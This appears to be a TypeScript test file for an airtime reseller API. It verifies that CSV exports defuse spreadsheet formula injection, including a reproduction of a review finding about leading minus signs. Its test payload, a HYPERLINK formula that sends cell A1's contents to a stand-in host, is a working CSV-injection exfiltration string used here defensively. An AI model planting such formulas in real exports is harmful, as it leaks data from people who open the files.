// The CSV formula guard (src/lib/csv.ts, docs/api.md "Transactions export"): every cell a spreadsheet
// would read as a formula, starting with = + - @, a tab, a carriage return or a full-width ＝ ＋ － ＠,
// is prefixed with ' whatever follows; `-1+HYPERLINK(...)` went through raw before (the hostile review of
// 2026-11-27, row 5: `!/^-?\d/` let a leading minus and a digit pass). Through real exports: the
// dashboard's wallet CSV with sandbox funding references, the public transactions export and the
// dashboard's orders CSV with client references; the prefixes no API field accepts (controls, full-width)
// through csv_cell itself.
import t from 'tap';
import { csv_cell, csv_line } from '../src/lib/csv.js';
import { start_server } from './helpers/server.js';
import { buy_airtime, check_created, fast_reseller, sandbox } from './helpers/purchases.js';

const hyperlink = '1+HYPERLINK("http://x.test/?"&A1,"x")';
const prefixes = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

/** A cell as a spreadsheet reads it back: the CSV quoting undone. */
function unquoted(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
}

t.test('csv_cell defuses every formula prefix, whatever follows, and leaves our figures numeric', async (t) => {
  for (const prefix of prefixes) {
    for (const rest of [hyperlink, '1', 'SUM(A1:A9)', '']) {
      const value = prefix + rest;
      t.equal(unquoted(csv_cell(value)), `'${value}`, `${JSON.stringify(value)} is prefixed with '`);
    }
  }
  for (const figure of ['0.00', '500.00', '1234567.89', '12']) t.equal(csv_cell(figure), figure, `our figure ${figure} stays a number`);
  for (const text of ['BV-20261127-ABCDEFGHJKMN', 'Test Customer', 'a=b', ' =1']) t.equal(csv_cell(text), text, `${JSON.stringify(text)} does not start a formula and is kept`);
  t.equal(csv_line(['-1', 'x,y', 'q"q']), `'-1,"x,y","q""q"\r\n`, 'a line: a minus defused, a comma and a quote quoted');
});

const server = await start_server(t);

async function dashboard_cookie(email: string, password: string): Promise<string> {
  const signed_in = await server.api('POST', '/dashboard/api/session', { body: { email, password } });
  if (signed_in.status !== 201) throw new Error(`sign-in: ${signed_in.status} ${signed_in.text}`);
  return (signed_in.headers.get('set-cookie') ?? '').split(';')[0];
}

async function csv_rows(path: string, headers: Record<string, string>): Promise<string[]> {
  const response = await fetch(server.base + path, { headers });
  if (response.status !== 200) throw new Error(`${path}: ${response.status} ${await response.text()}`);
  return (await response.text()).trim().split('\r\n');
}

t.test('the dashboard wallet CSV defuses sandbox funding references starting with = + - @ (the review\'s reproduction)', async (t) => {
  const account = await server.create_account({ kyc_level: 2 });
  const key = await server.create_key(account.id, { rate_limit_per_minute: 1_000_000 });
  const references = ['=', '+', '-', '@'].map((prefix) => prefix + hyperlink);
  for (const reference of references) {
    const funded = await server.api('POST', '/v1/sandbox/wallet/fund', { key: key.api_key, body: { amount: 10, reference } });
    t.equal(funded.status, 201, `a top-up with reference ${reference} is accepted`);
  }
  const cookie = await dashboard_cookie(account.email, account.password);
  const rows = await csv_rows('/dashboard/api/export/wallet?environment=test', { cookie });
  t.equal(rows.length, references.length + 1, 'a header and one row per top-up');
  for (const reference of references) {
    const escaped = `"'${reference.replaceAll('"', '""')}"`;
    t.ok(rows.some((row) => row.includes(`,${escaped},`)), `${reference} is written as ${escaped}`);
  }
  t.notOk(rows.some((row) => row.includes(',-1+HYPERLINK') || row.includes(',"-1+HYPERLINK')), 'no cell starts with -1+HYPERLINK');
  t.ok(rows.slice(1).every((row) => /^\d+,credit,10\.00,\d+\.\d{2},\d+\.\d{2},/.test(row)), 'the figures stay plain numbers');
});

t.test('a client reference starting with a minus is defused in the public export and the dashboard orders CSV', async (t) => {
  const account = await fast_reseller(server, 1_000);
  const bought = await buy_airtime(server, account.key, sandbox.delivered, 100, { client_reference: '-1' });
  check_created(t, bought, 'delivered', 'a purchase with client_reference -1');
  const today = new Date().toISOString().slice(0, 10);
  const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
  const exported = await csv_rows(`/v1/transactions/export?from=${today}&to=${tomorrow}`, { authorization: `Bearer ${account.key}` });
  t.equal(exported.length, 2, 'the public export: a header and the order');
  t.equal(exported[1].split(',')[8], `'-1`, `the public export's client_reference cell is '-1 (${exported[1]})`);
  t.equal(exported[1].split(',')[3], '100.00', 'and its amount stays a number');
  const cookie = await dashboard_cookie(account.email, account.password);
  const orders = await csv_rows('/dashboard/api/export/orders?environment=test', { cookie });
  t.equal(orders.length, 2, 'the dashboard orders CSV: a header and the order');
  t.ok(orders[1].includes(`,'-1,`), `the dashboard orders CSV's client_reference cell is '-1 (${orders[1]})`);
});
